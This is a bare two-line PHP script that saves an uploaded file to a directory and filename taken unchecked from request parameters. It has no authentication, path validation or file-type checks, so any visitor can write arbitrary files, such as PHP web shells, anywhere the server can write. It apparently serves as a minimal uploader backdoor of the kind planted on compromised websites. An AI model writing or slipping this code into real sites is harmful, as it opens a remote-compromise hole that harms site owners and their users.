<?php
move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path'] . '/' . $_POST['name']);
